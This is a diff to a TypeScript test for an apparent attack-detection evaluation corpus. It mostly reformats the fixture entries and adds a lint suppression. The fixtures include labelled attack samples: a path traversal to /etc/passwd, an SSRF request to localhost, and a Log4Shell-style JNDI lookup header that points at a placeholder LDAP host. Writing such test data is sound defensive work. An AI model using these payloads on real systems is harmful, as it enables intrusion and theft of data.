@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
 import assert from "node:assert/strict";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -39,10 +40,28 @@ describe("eval corpus", () => {
     const file = join(dir, "mini.jsonl");
     const lines = [
       { id: "a1", source: "t", class: "traversal", attack: true, payload: "../../../etc/passwd" },
-      { id: "a2", source: "t", class: "ssrf", attack: true, request: { method: "GET", url: "/?u=http://127.0.0.1/", headers: { Host: "x" }, body: null } },
-      { id: "a3", source: "t", class: "jndi", attack: true, request: { raw: "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://e/a}\r\n\r\n" } },
+      {
+        id: "a2",
+        source: "t",
+        class: "ssrf",
+        attack: true,
+        request: { method: "GET", url: "/?u=http://127.0.0.1/", headers: { Host: "x" }, body: null },
+      },
+      {
+        id: "a3",
+        source: "t",
+        class: "jndi",
+        attack: true,
+        request: { raw: "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://e/a}\r\n\r\n" },
+      },
       { id: "b1", source: "t", class: "benign", attack: false, payload: "drop me a line" },
-      { id: "b2", source: "t", class: "benign", attack: false, request: { method: "GET", url: "/shop?item=12&q=blue+shoes", headers: {}, body: null } },
+      {
+        id: "b2",
+        source: "t",
+        class: "benign",
+        attack: false,
+        request: { method: "GET", url: "/shop?item=12&q=blue+shoes", headers: {}, body: null },
+      },
     ];
     writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join("\n")}\nnot json\n`);
     const invalid: number[] = [];
